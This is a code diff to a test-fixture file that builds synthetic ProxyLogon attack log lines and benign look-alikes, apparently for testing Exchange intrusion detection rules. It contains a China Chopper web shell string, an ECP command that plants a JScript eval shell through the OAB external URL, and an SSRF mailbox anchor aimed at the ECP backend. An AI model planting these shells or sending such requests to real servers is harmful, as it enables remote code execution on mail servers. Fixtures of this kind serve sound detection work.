@@ -192,9 +192,105 @@ export const PROXYLOGON_TRACES = {
     `${dayString(day)} ${clock(sec)} ${SERVER_IP} POST /aspnet_client/system_web/log.aspx - 443 - ${ATTACKER_IP} antSword/v2.1 - 200 0 0 312\r\n`,
   ecpSetOab: (day: Date, sec: number): string =>
     `${dayString(day)}T${clock(sec)}.577Z,${SERVER},ECP.Request,"S:TIME=2437;S:SID=4b3f8a8d-9f0e-4a7c-9d2b-0f6d0b3c2a11;S:USID=c3a5e1f2-1111-4c2d-8e9f-0a1b2c3d4e5f;S:SRCIP=${ATTACKER_IP};S:UA=python-requests/2.25.1;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Yz5ba5dWaUGbLgYcbNe2F;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""orange""],""unsafe"");}</script>'.Identity='0b2ea5e2-1e0c-4f1c-a8b7-8f4d3a0e6f3b'"\r\n`,
+  // CVE-2021-26858: the message as Test-ProxyLogon parses it ("Download failed and temporary file <path> needs to be
+  // removed", CSS-Exchange PR #386), with a path outside ClientAccess\OAB.
   oabDownloadFailed: (day: Date, sec: number): string =>
-    `${dayString(day)}T${clock(sec)}.123Z,${SERVER},OABGenerator,1a2b3c4d-0000-4000-8000-000000000001,Error,"Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx.tmp' is kept for troubleshooting."\r\n`,
+    `${dayString(day)}T${clock(sec)}.123Z,${SERVER},OABGenerator,1a2b3c4d-0000-4000-8000-000000000001,Error,"Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx' needs to be removed."\r\n`,
+  // CVE-2021-27065 as Test-ProxyLogon finds it in HttpProxy\Ecp (PR #386): the SSRF anchor ends in the reset
+  // schema and '#', as the anchors of CSS-Exchange issue #100 end in '...&schema=OABVirtualDirectory#'.
+  httpProxyResetVdir: (day: Date, sec: number): string =>
+    httpProxyRow({
+      DateTime: `${dayString(day)}T${clock(sec)}.871Z`,
+      RequestId: "0d6e2c1a-47b1-4c1e-9f55-6a0c1b9e7d21",
+      MajorVersion: "15",
+      MinorVersion: "1",
+      BuildVersion: "2176",
+      RevisionVersion: "2",
+      Protocol: "Ecp",
+      UrlHost: FQDN,
+      UrlStem: "/ecp/y.js",
+      IsAuthenticated: "False",
+      AuthenticatedUser: "",
+      AnchorMailbox: "ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Yz5ba5dWaUGbLgYcbNe2F&schema=ResetOABVirtualDirectory#",
+      UserAgent: "python-requests/2.25.1",
+      ClientIpAddress: ATTACKER_IP,
+      ServerHostName: SERVER,
+      HttpStatus: "200",
+      BackEndStatus: "200",
+      Method: "POST",
+      ProxyAction: "Proxy",
+      TargetServer: "ex01.contoso.local",
+      RoutingType: "AnchorMailboxHeader-ServerInfo",
+      RoutingHint: "BEResourceCookie-ServerInfo",
+      TotalRequestTime: "388",
+    }),
   chinaChopper: '<%@ Page Language="Jscript"%><%eval(Request.Item["orange"],"unsafe");%>\r\n',
+};
+
+/**
+ * Benign look-alikes of the traces above: what Test-ProxyLogon's published exclusions were made for. None of them may
+ * fire a rule.
+ */
+export const BENIGN_TWINS = {
+  /** OAB generator download failure inside <install>\ClientAccess\OAB (CSS-Exchange PR #386). */
+  oabDownloadInOab: (day: Date, sec: number): string =>
+    `${dayString(day)}T${clock(sec)}.456Z,${SERVER},OABGenerator,2b3c4d5e-0000-4000-8000-000000000002,Error,"Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\8f2e0b1c-6c3a-4d1e-b0d7-3e5f2a1c9b77\\oab.xml' needs to be removed."\r\n`,
+  /** An administrator setting OWA's external URL in ECP (CSS-Exchange PR #386: normal administration). */
+  ecpSetOwaHttps: (day: Date, sec: number): string =>
+    `${dayString(day)}T${clock(sec)}.204Z,${SERVER},ECP.Request,"S:TIME=812;S:SID=1f2e3d4c-5b6a-4978-8877-665544332211;S:USID=aa11bb22-cc33-4d44-8e55-ff6677889900;S:SRCIP=10.10.3.17;S:UA=Mozilla/5.0 (Windows NT 10.0; Win64; x64);S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory&msExchEcpCanary=Qm9vZkJhcg2;S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.com/owa'.Identity='EX01\\owa (Default Web Site)'"\r\n`,
+  /** A ServerInfo~ anchor to autodiscover only (excluded since CSS-Exchange commit 19778cd; issue #312). */
+  httpProxyAutodiscoverAnchor: (day: Date, sec: number): string =>
+    httpProxyRow({
+      DateTime: `${dayString(day)}T${clock(sec)}.865Z`,
+      RequestId: "5e4d3c2b-1a09-4f8e-9d7c-6b5a49382716",
+      MajorVersion: "15",
+      MinorVersion: "1",
+      BuildVersion: "2176",
+      RevisionVersion: "2",
+      Protocol: "Ecp",
+      UrlHost: FQDN,
+      UrlStem: "/ecp/x.js",
+      IsAuthenticated: "False",
+      AuthenticatedUser: "",
+      AnchorMailbox: "ServerInfo~a]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#",
+      UserAgent: "python-requests/2.25.1",
+      ClientIpAddress: "45.77.10.20",
+      ServerHostName: SERVER,
+      HttpStatus: "200",
+      BackEndStatus: "200",
+      Method: "POST",
+      ProxyAction: "Proxy",
+      TargetServer: "ex01.contoso.local",
+      RoutingType: "AnchorMailboxHeader-ServerInfo",
+      TotalRequestTime: "97",
+    }),
+  /** A ServerInfo~localhost anchor (excluded since CSS-Exchange commit 19778cd), shaped like signature-base PR #125's sample. */
+  httpProxyLocalhostAnchor: (day: Date, sec: number): string =>
+    httpProxyRow({
+      DateTime: `${dayString(day)}T${clock(sec)}.546Z`,
+      RequestId: "1a51fb75-2f6f-4a40-8129-ff80098494a0",
+      MajorVersion: "15",
+      MinorVersion: "0",
+      BuildVersion: "1395",
+      RevisionVersion: "0",
+      Protocol: "Owa",
+      UrlHost: FQDN,
+      UrlStem: "/owa/auth/x.js",
+      AuthenticationType: "FBA",
+      IsAuthenticated: "false",
+      AnchorMailbox: "ServerInfo~localhost/ecp/default.flt?",
+      UserAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/69.0.3497.81 Safari/537.36",
+      ClientIpAddress: "10.10.4.9",
+      ServerHostName: SERVER,
+      HttpStatus: "500",
+      BackEndStatus: "500",
+      Method: "GET",
+      ProxyAction: "Proxy",
+      TargetServer: "localhost",
+      RoutingType: "CrossRegion",
+      RoutingHint: "X-AnonResource-Backend-Cookie",
+      TotalRequestTime: "382",
+    }),
 };
 
 export function umEventXml(recordId: number, isoTime: string, message: string): string {
